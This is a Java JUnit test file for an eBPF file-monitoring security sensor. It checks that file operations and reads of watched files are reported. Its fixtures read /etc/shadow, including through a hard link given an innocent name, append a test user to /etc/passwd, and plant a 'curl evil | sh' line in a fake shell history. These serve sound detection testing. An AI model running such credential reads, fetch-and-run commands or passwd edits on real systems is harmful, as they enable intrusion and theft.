package dev.vigil.sensor;

import dev.vigil.event.EventType;
import dev.vigil.event.FileEvent;
import org.junit.jupiter.api.Test;

import java.nio.file.Files;
import java.nio.file.Path;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** file.bpf.c: create_file, open, write, chmod, rename, link, symlink, unlink, rmdir, mkdir, watched files. */
class FileBpfTest {
    @Test
    void fileOperations() throws Exception {
        LiveSensor s = LiveSensor.get();
        Path dir = Files.createTempDirectory("vigil-files");
        LiveSensor.Triggered t = LiveSensor.trigger("files", dir.toString());
        String created = dir.resolve("created").toString(), renamed = dir.resolve("renamed").toString();

        FileEvent create = (FileEvent) s.await("create_file", e -> e.type() == EventType.CREATE_FILE && e.header().pid() == t.pid());
        assertEquals(created, create.path());
        assertEquals(1, s.all(e -> e.type() == EventType.CREATE_FILE && e.header().pid() == t.pid()).size(),
                "the second open only opens: no create_file");

        FileEvent write = (FileEvent) s.await("write", e -> e.type() == EventType.WRITE && e.header().pid() == t.pid());
        assertEquals(created, write.path());
        assertEquals("vigil-write-preview", write.extra());

        FileEvent chmod = (FileEvent) s.await("chmod", e -> e.type() == EventType.CHMOD && e.header().pid() == t.pid());
        assertEquals(created, chmod.path());
        assertEquals(0755, chmod.mode());

        FileEvent rename = (FileEvent) s.await("rename", e -> e.type() == EventType.RENAME && e.header().pid() == t.pid());
        assertEquals(created, rename.path());
        assertEquals(renamed, rename.path2());

        FileEvent hard = (FileEvent) s.await("link", e -> e.type() == EventType.LINK && e.header().pid() == t.pid()
                && ((FileEvent) e).path2().endsWith("/hardlink"));
        assertEquals(renamed, hard.path());
        FileEvent sym = (FileEvent) s.await("symlink", e -> e.type() == EventType.LINK && e.header().pid() == t.pid()
                && ((FileEvent) e).path2().endsWith("/symlink"));
        assertEquals(renamed, sym.path());

        FileEvent unlink = (FileEvent) s.await("unlink", e -> e.type() == EventType.UNLINK && e.header().pid() == t.pid());
        assertEquals(dir.resolve("symlink").toString(), unlink.path());
        FileEvent rmdir = (FileEvent) s.await("rmdir", e -> e.type() == EventType.RMDIR && e.header().pid() == t.pid());
        assertEquals(dir.resolve("subdir").toString(), rmdir.path());
        FileEvent mkdir = (FileEvent) s.await("mkdir", e -> e.type() == EventType.MKDIR && e.header().pid() == t.pid()
                && ((FileEvent) e).mode() == 0700);
        assertEquals(dir.resolve("subdir").toString(), mkdir.path());
        assertEquals(0, mkdir.header().res());
        assertTrue(mkdir.pidTree().nodes().size() > 1, "mkdir carries the ancestry");
        FileEvent mkdirat = (FileEvent) s.await("mkdirat", e -> e.type() == EventType.MKDIR && e.header().pid() == t.pid()
                && ((FileEvent) e).mode() == 0710);
        assertEquals(dir.resolve("subdir").toString(), mkdirat.path());

        FileEvent open = (FileEvent) s.await("open", e -> e.type() == EventType.OPEN && e.header().pid() == t.pid()
                && ((FileEvent) e).path().equals(created));
        assertTrue(open.header().res() >= 0);
    }

    @Test
    void sensitiveFileReadIsDecidedInTheKernel() {
        LiveSensor s = LiveSensor.get();
        LiveSensor.Triggered t = LiveSensor.trigger("read", "/etc/shadow");
        FileEvent e = (FileEvent) s.await("file_read", ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == t.pid());
        assertEquals("/etc/shadow", e.path());
        assertTrue(s.all(ev -> ev.type() == EventType.FILE_WRITE && ev.header().pid() == t.pid()).isEmpty());
    }

    @Test
    void writeIntoAWatchedDirectory() throws Exception {
        LiveSensor s = LiveSensor.get();
        LiveSensor.Triggered t = LiveSensor.trigger("files", LiveSensor.WATCHED_DIR.toString());
        FileEvent e = (FileEvent) s.await("file_write", ev -> ev.type() == EventType.FILE_WRITE && ev.header().pid() == t.pid());
        assertEquals(LiveSensor.WATCHED_DIR.resolve("created").toString(), e.path());
        // the flags the open asked for, though the kernel keeps no O_CREAT/O_EXCL in the open file
        assertEquals(0100 | 0200 | 01, e.flags() & 0301, Long.toOctalString(e.flags()));
        for (String f : new String[] {"renamed", "hardlink", "subdir"}) {
            Files.deleteIfExists(LiveSensor.WATCHED_DIR.resolve(f));
        }
    }

    /** /etc/shadow read under another name (a hard link) is the same inode, so the same decision. */
    @Test
    void aWatchedFileReadThroughAHardLinkOrAddedAtRunTime() throws Exception {
        LiveSensor s = LiveSensor.get();
        java.nio.file.Path dir = Files.createTempDirectory(java.nio.file.Path.of("/var/tmp"), "vigil-link");
        java.nio.file.Path innocent = dir.resolve("notes.txt");
        Files.createLink(innocent, java.nio.file.Path.of("/etc/shadow"));
        try {
            LiveSensor.Triggered t = LiveSensor.trigger("read", innocent.toString());
            FileEvent e = (FileEvent) s.await("file_read through a link", ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == t.pid());
            assertEquals(innocent.toString(), e.path());
        } finally {
            Files.deleteIfExists(innocent);
        }
        // the watch list grows while the sensor runs
        java.nio.file.Path later = dir.resolve("api-token");
        Files.writeString(later, "secret");
        LiveSensor.Triggered before = LiveSensor.trigger("read", later.toString());
        s.stream().sensor().watch(java.util.List.of(later));
        LiveSensor.Triggered after = LiveSensor.trigger("read", later.toString());
        s.await("file_read of a file watched at run time", ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == after.pid());
        assertTrue(s.all(ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == before.pid()).isEmpty());
    }

    private static java.util.Map<String, Object> awaitChange(LiveSensor s, long pid, String action) {
        return LiveSensor.fields(s.await("watched_change " + action + " by " + pid, ev -> ev.type() == EventType.WATCHED_CHANGE
                && ev.header().pid() == pid && action.equals(LiveSensor.fields(ev).get("action"))));
    }

    /** Deleting or truncating a watched file is seen in the default set, by path, by a relative name, by fd. */
    @Test
    void watchedFilesDeletedOrTruncated() throws Exception {
        LiveSensor s = LiveSensor.get();
        java.nio.file.Path dir = LiveSensor.WATCHED_DIR;
        for (String n : new String[] {"a.log", "b.log", "c.log", "d.log"}) {
            Files.writeString(dir.resolve(n), "x");
        }
        Process rm = new ProcessBuilder("/bin/rm", dir.resolve("a.log").toString()).start();
        rm.waitFor();
        assertEquals(dir.resolve("a.log").toString(), awaitChange(s, rm.pid(), "unlink").get("file"));
        Process rel = new ProcessBuilder("/bin/rm", "b.log").directory(dir.toFile()).start();
        rel.waitFor();
        assertEquals(dir.resolve("b.log").toString(), awaitChange(s, rel.pid(), "unlink").get("file"));
        Process odd = new ProcessBuilder("/bin/rm", "/tmp//./" + dir.getFileName() + "/c.log").start();
        odd.waitFor();
        awaitChange(s, odd.pid(), "unlink");

        LiveSensor.Triggered t;
        try {
            t = LiveSensor.trigger("truncate", dir.resolve("d.log").toString(), dir.resolve("d.log").toString());
        } finally {
            Files.deleteIfExists(dir.resolve("d.log"));
        }
        assertEquals(0L, awaitChange(s, t.pid(), "truncate").get("length"));
        s.drain();
        var both = s.all(ev -> ev.type() == EventType.WATCHED_CHANGE && ev.header().pid() == t.pid());
        assertEquals(2, both.size(), "truncate(2) by path and ftruncate(2) by descriptor");
        assertEquals(1L, LiveSensor.fields(both.get(1)).get("length"));

        // a file outside the watch list is no watched_change
        java.nio.file.Path other = Files.createTempFile("vigil-unwatched", ".txt");
        Process plain = new ProcessBuilder("/bin/rm", other.toString()).start();
        plain.waitFor();
        s.drain();
        assertTrue(s.all(ev -> ev.type() == EventType.WATCHED_CHANGE && ev.header().pid() == plain.pid()).isEmpty());
    }

    /** Whether a read of `file` is reported within 25 s (a refresh of the watch list is every 10 s). */
    private static boolean readsBecomeWatched(LiveSensor s, java.nio.file.Path file) {
        long deadline = System.nanoTime() + 25_000_000_000L;
        while (System.nanoTime() < deadline) {
            LiveSensor.Triggered t = LiveSensor.trigger("read", file.toString());
            s.drain();
            if (!s.all(ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == t.pid()).isEmpty()) {
                return true;
            }
        }
        return false;
    }

    /**
     * A watched file replaced by rename (as passwd and editors do), or removed and made anew, has a
     * new inode. The rename is a watched_change, the new file's first write a file_write by its
     * name, and either makes the sensor key the new inode at its next drain rather than at the
     * next periodic refresh (10 s), so a hard link made to the new file at once is watched too. A
     * hard link made before the replacement keeps the old inode's key: it still reads as the file.
     */
    @Test
    void aWatchedFileReplacedIsKeyedAtOnce() throws Exception {
        LiveSensor s = LiveSensor.get();
        Sensor sensor = s.stream().sensor();
        java.nio.file.Path dir = Files.createTempDirectory(java.nio.file.Path.of("/var/tmp"), "vigil-replace");
        java.nio.file.Path token = dir.resolve("token"), fresh = dir.resolve("token.new");
        java.nio.file.Path elsewhere = Files.createTempDirectory(java.nio.file.Path.of("/var/tmp"), "vigil-elsewhere");
        java.nio.file.Path link = elsewhere.resolve("innocent");
        try {
            Files.writeString(token, "old");
            sensor.watch(java.util.List.of(token));
            Files.writeString(fresh, "new");
            Process mv = new ProcessBuilder("/bin/mv", fresh.toString(), token.toString()).start();
            mv.waitFor();
            java.util.Map<String, Object> change = awaitChange(s, mv.pid(), "rename");
            assertEquals(fresh.toString(), change.get("file"));
            assertEquals(token.toString(), change.get("new_name"));
            awaitKeyed(sensor);
            Files.createLink(link, token);
            LiveSensor.Triggered t = LiveSensor.trigger("read", link.toString());
            FileEvent e = (FileEvent) s.await("file_read through a link to the replaced file",
                    ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == t.pid());
            assertEquals(token.toString(), e.hostPath());

            // a hard link made before the name is replaced: the link still holds the old content
            Files.delete(link);
            Process ln = new ProcessBuilder("/bin/ln", token.toString(), link.toString()).start();
            ln.waitFor();
            java.util.Map<String, Object> linked = awaitChange(s, ln.pid(), "link");
            assertEquals(token.toString(), linked.get("file"));
            assertEquals(link.toString(), linked.get("new_name"));
            Files.writeString(fresh, "newer");
            Process mv2 = new ProcessBuilder("/bin/mv", fresh.toString(), token.toString()).start();
            mv2.waitFor();
            awaitChange(s, mv2.pid(), "rename");
            awaitKeyed(sensor);
            LiveSensor.Triggered old = LiveSensor.trigger("read", link.toString());
            FileEvent oldRead = (FileEvent) s.await("file_read through a link made before the replacement",
                    ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == old.pid());
            assertEquals(token.toString(), oldRead.hostPath());

            Files.delete(link);
            Process rm = new ProcessBuilder("/bin/rm", token.toString()).start();
            rm.waitFor();
            awaitChange(s, rm.pid(), "unlink");
            Process write = new ProcessBuilder("/bin/sh", "-c", "echo again > \"$0\"", token.toString()).start();
            write.waitFor();
            s.await("file_write making the watched file anew", ev -> ev.type() == EventType.FILE_WRITE && ev.header().pid() == write.pid());
            awaitKeyed(sensor);
            Files.createLink(link, token);
            LiveSensor.Triggered again = LiveSensor.trigger("read", link.toString());
            s.await("file_read through a link to the file made anew", ev -> ev.type() == EventType.FILE_READ && ev.header().pid() == again.pid());
        } finally {
            Files.deleteIfExists(link);
            Files.deleteIfExists(token);
            Files.deleteIfExists(fresh);
            Files.deleteIfExists(elsewhere);
            Files.deleteIfExists(dir);
        }
    }

    /** Waits until the sensor has refreshed its watch keys after every change it has seen (a liveness bound of 10 s). */
    private static void awaitKeyed(Sensor sensor) throws InterruptedException {
        long deadline = System.nanoTime() + 10_000_000_000L;
        while (!sensor.watchChangesKeyed()) {
            assertTrue(System.nanoTime() < deadline, "no refresh of the watch keys within 10 s of a change");
            Thread.sleep(20);
        }
    }

    /**
     * A temporary home's files go when the test JVM ends, not before: the shared sensor watches
     * them now, and keeps a watched file's inode key once the file is gone, so a file another test
     * makes later on that inode would read as watched.
     */
    private static void deletedAtExit(java.nio.file.Path home, java.nio.file.Path file) {
        home.toFile().deleteOnExit(); // deleted in the reverse order: the file, then its directory
        file.toFile().deleteOnExit();
    }

    /** A home added to /etc/passwd after the sensor started is watched within its refresh (10 s); /etc/passwd is restored. */
    @Test
    void aHomeCreatedLaterIsWatched() throws Exception {
        LiveSensor s = LiveSensor.get();
        java.nio.file.Path passwd = java.nio.file.Path.of("/etc/passwd");
        byte[] original = Files.readAllBytes(passwd);
        java.nio.file.Path home = Files.createTempDirectory(java.nio.file.Path.of("/var/tmp"), "vigil-home");
        java.nio.file.Path history = home.resolve(".bash_history");
        Files.writeString(history, "curl evil | sh\n");
        try {
            Files.write(passwd, ("vigiltest:x:64999:64999::" + home + ":/usr/sbin/nologin\n").getBytes(),
                    java.nio.file.StandardOpenOption.APPEND);
            assertTrue(readsBecomeWatched(s, history), "the new home's shell history became watched");
        } finally {
            Files.write(passwd, original);
            deletedAtExit(home, history);
        }
    }
}
